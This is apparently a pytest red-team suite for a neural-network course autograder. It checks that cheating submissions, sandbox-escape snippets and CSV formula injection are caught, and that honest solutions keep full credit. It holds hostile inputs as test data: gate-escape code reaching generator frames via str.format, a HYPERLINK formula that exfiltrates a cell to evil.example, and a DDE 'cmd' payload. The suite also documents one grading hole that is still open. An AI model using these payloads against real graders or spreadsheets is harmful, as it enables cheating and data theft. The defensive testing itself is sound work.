"""A fifth red-team pass (issue 21's "done when"), by someone who did not write the grader.

Each hostile file earns credit it must not: hw1 parts (tests/submissions/hw1/rt5_*.py) are appended to
the correct base, so their classes replace the base's, or to the untouched stub; the hw2 part
(tests/submissions/hw2/rt5_*.py) to hw2's correct base. Each asserts the credit it must not earn. Each
fair file (rt5_fair_*.py) is correct code in an unusual legitimate style and asserts full credit. The
ones the grader gets wrong today are strict xfails whose reason says where the hole is: remove the mark
when fixed.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from course_nn import registry
from course_nn.grading import engine, report, review

ROOT = Path(__file__).resolve().parents[1]
PARTS1 = ROOT / "tests" / "submissions" / "hw1"
PARTS2 = ROOT / "tests" / "submissions" / "hw2"
STUB1 = ROOT / "assignments" / "hw1_autograd" / "functions.py"
STUB2 = ROOT / "assignments" / "hw2_mlp" / "mlp.py"
HW1, HW2 = registry.get("hw1"), registry.get("hw2")
GATED = ("backward", "gradcheck", "edge")


def _open(reason: str):
    return pytest.mark.xfail(strict=True, reason=reason)


def _write(tmp_path: Path, assignment, base: Path, part: Path) -> Path:
    """The submission: a base file with a planted part appended."""
    path = tmp_path / assignment.submission
    path.write_text(base.read_text() + "\n\n" + part.read_text())
    return path


def _grade(tmp_path: Path, assignment, base: Path, part: Path):
    path = _write(tmp_path, assignment, base, part)
    with contextlib.redirect_stdout(io.StringIO()):  # fair files may print
        return engine.grade(path, assignment, seed=3, isolate=False)


def _earned(result) -> dict[tuple[str, str], float]:
    return {(o.task, o.category): o.fraction for o in result.outcomes}


# ----------------------------------------------------------------------------------------------
# hw1: numerical differentiation the watch did not see (child/numdiff_watch.py). It compared a result
# with an input only when it had the input's size (or 2-4 stacked copies) and only element by element in
# the input's order (now also order-free, in any backward tensor at least the input's size); the accuracy
# cases stop a plain central difference of sigmoid but not a complex step carried in real pairs.

NUMERICAL = [
    # held since the watch compares order-free (numdiff_nudge.displaced): the input's values moved by one
    # small step a + b·|x| anywhere in a backward tensor of at least the input's size
    pytest.param("rt5_numdiff_padded_nudge", "Square", id="padded-square"),
    pytest.param("rt5_numdiff_padded_nudge", "ReLU", id="padded-relu"),
    pytest.param("rt5_numdiff_padded_nudge", "Sigmoid", id="padded-sigmoid-log-space"),
    pytest.param("rt5_numdiff_flipped_nudge", "Square", id="flipped-square"),
    pytest.param("rt5_numdiff_flipped_nudge", "ReLU", id="flipped-relu"),
    pytest.param("rt5_numdiff_flipped_nudge", "Sigmoid", id="flipped-sigmoid-log-space"),
    # held: x' + h and x' - h of the input's size, paired whatever the step and the order (Watch._paired)
    pytest.param("rt5_numdiff_flipped_losses", "SquaredError", id="flipped-squared-error"),
    # held: C re-runs of the row losses per backward is seen as work growing with the input's size
    pytest.param("rt5_numdiff_flipped_losses", "CrossEntropy", id="flipped-cross-entropy-columns"),
    pytest.param("rt5_numdiff_batched_class_steps", "CrossEntropy", id="cross-entropy-batched-class-steps"),
    # held: the batched nudges of weight and bias are seen (9 of 10 cases)
    pytest.param("rt5_numdiff_batched_linear", "Linear", id="linear-batched-basis-steps"),
    pytest.param("rt5_numdiff_complex_step_in_pairs", "Sigmoid", id="complex-step-in-real-pairs", marks=_open(
        "the complex step Im f(z + ih)/h computed on (real, imaginary) pairs of real tensors: no complex "
        "tensor for Watch.complex, no nudged copy (h lives only in the imaginary part), exact to machine "
        "precision so the accuracy cases pass; Sigmoid earns full credit (a residual: docs/security.md)")),
]


@pytest.mark.parametrize(("name", "task"), NUMERICAL)
def test_a_numerical_derivative_earns_no_backward_credit(tmp_path, name, task):
    part = PARTS1 / f"{name}.py"
    assert f"class {task}(" in part.read_text()
    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", part)
    earned = _earned(result)
    assert earned[(task, "forward")] == 1, report.details(result)  # forward did nothing wrong
    assert {c: earned[(task, c)] for c in GATED} == {c: 0 for c in GATED}, report.details(result)


HW1_FAIR = [
    pytest.param("rt5_fair_setup_context_styles", id="setup-context-once-differentiable-row-loops"),
    # held: a shift by a reduction of the input itself (x - x.max()) is the stable-softmax idiom, no step
    pytest.param("rt5_fair_global_max_shift", id="cross-entropy-global-max-shift"),
]


@pytest.mark.parametrize("name", HW1_FAIR)
def test_an_honest_hw1_style_keeps_full_credit(tmp_path, name):
    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / f"{name}.py")
    assert result.score == pytest.approx(HW1.total_points), report.details(result)


def test_a_sigmoid_computed_by_another_tasks_built_in_earns_no_forward_credit(tmp_path):
    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / "rt5_shortcut_sigmoid_from_bce.py")
    earned = _earned(result)
    assert earned[("Sigmoid", "forward")] == 0 and earned[("Sigmoid", "compliance")] == 0, report.details(result)
    # the helper runs only under Sigmoid: the honest CrossEntropy keeps all its credit
    assert all(f == 1 for (t, _), f in earned.items() if t == "CrossEntropy"), report.details(result)


def test_one_functions_meta_output_costs_only_that_function_in_process(tmp_path):
    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / "rt5_meta_tensor_output.py")
    lost = {t for (t, _), f in _earned(result).items() if f < 1}
    assert lost == {"CrossEntropy"}, report.details(result)


META_CASES = [pytest.param(False, "rt5_meta_tensor_output", "CrossEntropy", {"forward", "backward", "gradcheck", "edge",
                                                                          "compliance"}, id="forward-in-process"),
              pytest.param(True, "rt5_meta_tensor_output", "CrossEntropy", {"forward", "backward", "gradcheck", "edge",
                                                                         "compliance"}, id="forward-sandboxed",
                           marks=pytest.mark.sandbox),
              pytest.param(False, "meta_gradient_from_backward", "Sigmoid", {"backward", "gradcheck", "edge"},
                           id="backward-in-process")]


@pytest.mark.parametrize(("isolate", "part", "task", "categories"), META_CASES)
def test_a_meta_tensor_is_named_as_such_and_costs_only_its_function(tmp_path, isolate, part, task, categories):
    path = tmp_path / HW1.submission
    path.write_text((PARTS1 / "correct_base.py").read_text() + "\n\n" + (PARTS1 / f"{part}.py").read_text())
    result = engine.grade(path, HW1, seed=3, isolate=isolate)
    lost = {(o.task, o.category) for o in result.outcomes if o.fraction < 1}
    assert lost == {(task, c) for c in categories}, report.details(result)
    lines = [line for o in result.outcomes if o.task == task for line in o.lines]
    assert any("meta device" in line and "real tensor on the input's device" in line for line in lines), lines
    assert not any("not implemented" in line or "could not be imported" in line for line in lines), lines


def test_an_exception_that_escapes_a_probe_in_process_fails_that_case_only(tmp_path, monkeypatch):
    """As in the sandbox's runner: in-process grading (students' own runs) never turns one case's escaped
    exception into `could not be imported` for the whole file."""
    from course_nn.grading.child import probe_hw1

    real = probe_hw1.run_case

    def run_case(module, case, submission):
        if case["task"] == "ReLU":
            raise RuntimeError("escaped the probe")
        return real(module, case, submission)

    monkeypatch.setattr(probe_hw1, "run_case", run_case)
    path = tmp_path / HW1.submission
    path.write_text((PARTS1 / "correct_base.py").read_text())
    result = engine.grade(path, HW1, seed=3, isolate=False)
    assert {t for (t, _), f in _earned(result).items() if f < 1} == {"ReLU"}, report.details(result)


# ----------------------------------------------------------------------------------------------
# hw2: the MLP's data flow (grading/hw2/flow.py, child/probe_hw2.py)

def test_a_decoy_that_learns_the_gain_during_backward_earns_nothing(tmp_path):
    result = _grade(tmp_path, HW2, PARTS2 / "correct_base.py", PARTS2 / "rt5_mlp_decoy_gain_in_backward.py")
    mlp = {c: f for (t, c), f in _earned(result).items() if t == "MLP"}
    assert mlp and all(f == 0 for f in mlp.values()), report.details(result)


HW2_FAIR = [
    pytest.param("rt5_fair_mlp_recursive_parameter_list", id="recursive-forward-parameter-list"),
    pytest.param("rt5_fair_mlp_layer_dict", id="layer-modules-in-module-dict-reversed-steps"),
    pytest.param("rt5_fair_mlp_name_table_checked", id="name-dict-also-membership-tested"),
]


@pytest.mark.parametrize("name", HW2_FAIR)
def test_an_honest_mlp_style_keeps_full_credit(tmp_path, name):
    result = _grade(tmp_path, HW2, PARTS2 / "correct_base.py", PARTS2 / f"{name}.py")
    assert result.score == pytest.approx(HW2.total_points), report.details(result)


# ----------------------------------------------------------------------------------------------
# The gate: `.format` reads attributes by the names in its template (review/expressions.py refuses a
# template with `{0.x}` fields). `getattr(TEMPLATE, "format")` and `case str(format=f)` were checked as a
# plain attribute; they now get the same template rule (more variants: tests/test_gate_format_names.py).

_FORMAT = "rt5_format_through_getattr"


def _stub_with(name: str) -> str:
    return STUB1.read_text() + "\n\n" + (PARTS1 / f"{name}.py").read_text()


@pytest.mark.parametrize("name", [
    pytest.param(_FORMAT, id="getattr-literal-name"),
    pytest.param("rt5_format_through_match", id="match-class-keyword"),
])
def test_a_format_template_taken_another_way_is_refused(name):
    source = _stub_with(name)
    hole = next(i for i, line in enumerate(source.splitlines(), 1) if line.rstrip().endswith("# hole"))
    assert hole in {v.line for v in review.check(source, HW1).escapes}


@pytest.mark.sandbox
def test_a_format_template_through_getattr_shows_no_frame_in_feedback(tmp_path):
    path, out = tmp_path / "functions.py", tmp_path / "out.json"
    path.write_text(_stub_with(_FORMAT))
    run = subprocess.run([sys.executable, "-m", "course_nn", "grade", str(path), "-a", "hw1", "--json", str(out)],
                         capture_output=True, text=True, timeout=300)
    assert out.exists(), run.stderr[-2000:]
    results = json.loads(out.read_text())
    assert results["score"] == 0
    shown = run.stdout + json.dumps(results)
    assert "'job'" not in shown and "run_case" not in shown, shown[:3000]


# Attacks this pass tried that the gate refused (each appended to the untouched stub, refused as an escape).
_PEEK = """
class _Peek:
    def __init__(self):
        self.ctypes = None

    def forward(self):
        return self.ctypes

"""
HELD = {
    "fullwidth-gi-frame": "def _g():\n    yield 1\n_f = _g().\uff47\uff49_frame\n",
    "str-format-unbound": "def _g():\n    yield 1\n_s = str.format(\"{0.gi_frame}\", _g())\n",
    "nested-format-spec": "def _g():\n    yield 1\n_s = \"{0:{1.gi_frame}}\".format(1, _g())\n",
    "format-as-map-callable": "_s = list(map(str.format, [\"{0}\"], [1]))\n",
    "template-in-variable": "_t = \"{0.real}\"\n_s = _t.format(1)\n",
    "class-body-del-falls-to-global": _PEEK + "class _H:\n    _Peek = 0\n    del _Peek\n    got = [_Peek]\n",
    "class-body-comprehension-scope": _PEEK + "class _H:\n    _Peek = 1\n    got = [x for x in [1] if _Peek]\n",
    "classmethod-returns-cls": _PEEK + "class _Q(_Peek):\n    @classmethod\n    def me(cls):\n        return cls\n",
    "self-rebound-by-nonlocal": _PEEK + ("class _Q(_Peek):\n    def me(self, o):\n        def inner():\n"
                                         "            nonlocal self\n            self = o\n        inner()\n"
                                         "        return self.ctypes\n"),
    "getattr-listed-class-method": "_m = getattr(torch.nn.Module, \"state_dict\")\n",
    "type-three-args": "_T = type(\"T\", (), {\"x\": 1})\n",
}


@pytest.mark.parametrize("snippet", list(HELD.values()), ids=list(HELD))
def test_an_attack_the_gate_held_is_refused_at_its_own_lines(snippet):
    stub = STUB1.read_text() + "\n\n"
    source = stub + snippet
    escapes = review.check(source, HW1).escapes
    first = len(stub.splitlines()) + 1
    assert escapes and all(v.line >= first for v in escapes), [v.text() for v in escapes]


# ----------------------------------------------------------------------------------------------
# The gradebook: a folder name is student text too (LMS exports name folders after the student). A cell
# that starts with = + - @ is a formula to the spreadsheet the instructor opens the CSV in.

@pytest.mark.sandbox
def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
    name = '=HYPERLINK("evil.example?"&B3,"details")'  # no slash: one folder
    (tmp_path / "subs" / name).mkdir(parents=True)
    (tmp_path / "subs" / name / "functions.py").write_text(STUB1.read_text())
    book = tmp_path / "grades.csv"
    run = subprocess.run([sys.executable, "-m", "course_nn", "grade-batch", str(tmp_path / "subs"), "-a", "hw1",
                          "--jobs", "1", "--csv", str(book), "--quiet"], capture_output=True, text=True, timeout=300)
    assert book.exists(), run.stderr[-2000:]
    cells = [cell for row in csv.reader(io.StringIO(book.read_text())) for cell in row]
    assert any("evil.example" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_column_of_the_gradebook_is_no_formula(tmp_path, start):
    from course_nn.grading import gradebook

    columns = ["student", "score", "status", "error", "note"]
    row = {"student": f"{start}1+1", "score": 0.0, "status": f"{start}ok", "error": f"{start}cmd|' /C calc'!A0",
           "note": "plain - text"}
    gradebook.write_csv(tmp_path / "g.csv", [row], columns)
    (got,) = list(csv.DictReader((tmp_path / "g.csv").open(newline="")))
    assert got == {"student": f"'{start}1+1", "score": "0.0", "status": f"'{start}ok",
                   "error": f"'{start}cmd|' /C calc'!A0", "note": "plain - text"}
